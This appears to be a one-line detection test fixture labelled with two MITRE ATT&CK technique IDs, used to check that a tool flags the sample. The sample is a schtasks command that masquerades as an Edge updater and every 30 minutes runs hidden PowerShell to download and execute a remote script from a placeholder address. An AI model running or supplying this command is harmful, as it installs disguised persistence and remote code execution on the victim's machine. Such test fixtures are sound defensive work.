# expect: T1053.005 T1059.001
schtasks /create /sc minute /mo 30 /tn "MicrosoftEdgeUpdate" /tr "powershell -w hidden -c iex(irm http://203.0.113.9/beacon)" /f
